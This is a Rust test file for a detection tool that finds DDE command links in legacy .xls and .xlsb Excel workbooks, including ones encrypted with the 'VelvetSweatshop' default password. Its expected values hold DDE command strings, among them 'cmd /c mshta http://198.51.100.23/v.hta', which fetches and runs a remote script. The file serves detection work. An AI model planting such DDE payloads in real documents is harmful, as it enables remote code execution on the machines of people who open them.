//! Binary Excel workbooks: DDE links in legacy .xls (BIFF8 SupBook/ExternName records, also
//! under Excel's default-password RC4 encryption) and in .xlsb (BIFF12 BrtBeginSupBook).

use ddesweep_testgen::biff;
use serde_json::Value;

use crate::util::{Scan, scan, testdata};

/// The finding rows (severity other than info) of the artifact named `name`.
fn finding_rows<'a>(run: &'a Scan, name: &str) -> Vec<&'a Value> {
    run.rows
        .iter()
        .filter(|r| r["severity"] != "info")
        .filter(|r| r["source_path"].as_str().is_some_and(|p| p.ends_with(name)))
        .collect()
}

#[test]
fn legacy_xls_dde_link_is_read_from_the_workbook_stream() {
    let run = scan(&[&testdata("documents/positive/excel-legacy.xls")], &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let rows = finding_rows(&run, "excel-legacy.xls");
    assert_eq!(rows.len(), 1);
    let row = rows[0];
    assert_eq!(row["rule_id"], "ddesweep.document.dde_link");
    assert_eq!(row["command"], "cmd /c calc.exe");
    assert_eq!(row["dde_service"], "cmd");
    assert_eq!(row["dde_topic"], "/c calc.exe");
    assert_eq!(row["dde_item"], "A1");
    assert_eq!(row["part"], "Workbook");
    // The DDE SupBook follows BOF, InterfaceHdr, CodePage, Window1, BoundSheet8 and the
    // self-reference SupBook.
    assert_eq!(row["offset"], 0x50);
    let artifact = run.artifact("excel-legacy.xls");
    assert_eq!(artifact["status"], "analyzed", "{artifact}");
    assert_eq!(artifact["format"], "xls");
}

#[test]
fn xlsb_dde_link_is_read_from_the_binary_external_link_part() {
    let run = scan(&[&testdata("documents/positive/excel-binary.xlsb")], &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let rows = finding_rows(&run, "excel-binary.xlsb");
    assert_eq!(rows.len(), 1);
    let row = rows[0];
    assert_eq!(row["rule_id"], "ddesweep.document.dde_link");
    assert_eq!(row["command"], "cmd /c notepad.exe");
    assert_eq!(row["dde_item"], "_xlbgnm.A1, StdDocumentName");
    assert_eq!(row["part"], "xl/externalLinks/externalLink1.bin");
    assert_eq!(row["offset"], 0);
    let artifact = run.artifact("excel-binary.xlsb");
    assert_eq!(artifact["status"], "analyzed", "{artifact}");
    assert_eq!(artifact["format"], "xlsb");
}

#[test]
fn velvet_sweatshop_workbook_is_decrypted_and_reported_as_such() {
    let run = scan(
        &[&testdata("documents/positive/excel-legacy-velvet.xls")],
        &[],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let rows = finding_rows(&run, "excel-legacy-velvet.xls");
    let summary: Vec<(&str, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["rule_id"].as_str().unwrap(),
                r["command"].as_str().unwrap_or_default(),
                r["field_code"].as_str().unwrap_or_default(),
            )
        })
        .collect();
    assert!(
        summary.contains(&(
            "ddesweep.document.default_password",
            "",
            r#"RC4 CryptoAPI, opened with the default password "VelvetSweatshop""#
        )),
        "{summary:?}"
    );
    assert!(
        summary.contains(&(
            "ddesweep.document.dde_link",
            "cmd /c mshta http://198.51.100.23/v.hta",
            r#"ddeLink ddeService="cmd" ddeTopic="/c mshta http://198.51.100.23/v.hta""#
        )),
        "{summary:?}"
    );
    assert_eq!(rows.len(), 2);
    let encrypted = rows
        .iter()
        .find(|r| r["rule_id"] == "ddesweep.document.default_password")
        .unwrap();
    // FilePass directly follows the 20-byte BOF record.
    assert_eq!(
        (&encrypted["part"], &encrypted["offset"]),
        (&"Workbook".into(), &20.into())
    );
    assert_eq!(
        run.artifact("excel-legacy-velvet.xls")["status"],
        "analyzed"
    );
}

#[test]
fn workbook_under_another_password_is_flagged_not_read() {
    let salt = [0x11; 16];
    let (filepass, keys) = biff::filepass_crypto_api("Secret#2024", salt, [0x22; 16]);
    let links = [
        biff::supbook_dde("cmd", "/c calc.exe"),
        biff::extern_name_dde("A1"),
    ];
    let mut stream = biff::workbook_stream(Some(&filepass), &links, &[]);
    biff::encrypt_stream(&mut stream, &keys);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("locked.xls");
    std::fs::write(&path, biff::xls(&stream)).unwrap();

    let run = scan(&[&path], &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let rows = finding_rows(&run, "locked.xls");
    assert_eq!(rows.len(), 1, "no DDE link can be read: {rows:?}");
    assert_eq!(rows[0]["rule_id"], "ddesweep.document.encrypted");
    assert_eq!(
        rows[0]["field_code"],
        "RC4 CryptoAPI, no default password opened it: content not analysed"
    );
    let artifact = run.artifact("locked.xls");
    assert_eq!(artifact["status"], "analyzed", "{artifact}");
    assert!(
        artifact["reason"].as_str().unwrap_or_default().contains(
            "Workbook: encrypted (RC4 CryptoAPI) with a password other than the default: not analysed"
        ),
        "{artifact}"
    );
}

#[test]
fn external_workbook_links_are_not_dde() {
    let run = scan(
        &[&testdata("documents/negative/excel-legacy-benign.xls")],
        &[],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.findings(), Vec::<(String, String, String)>::new());
    let artifact = run.artifact("excel-legacy-benign.xls");
    assert_eq!(artifact["status"], "analyzed", "{artifact}");
    assert_eq!(artifact["reason"], Value::Null, "{artifact}");
}

#[test]
fn damaged_records_fail_the_artifact_and_keep_the_link_before_them() {
    let run = scan(
        &[&testdata("documents/hostile/excel-legacy-bad-records.xls")],
        &[],
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        run.commands_in("excel-legacy-bad-records.xls"),
        ["cmd /c echo damaged"]
    );
    let artifact = run.artifact("excel-legacy-bad-records.xls");
    assert_eq!(artifact["status"], "failed");
    assert_eq!(
        artifact["reason"],
        "Workbook: record 0x00FC at offset 0x44 declares 8224 bytes but only 12 remain in the stream"
    );
}
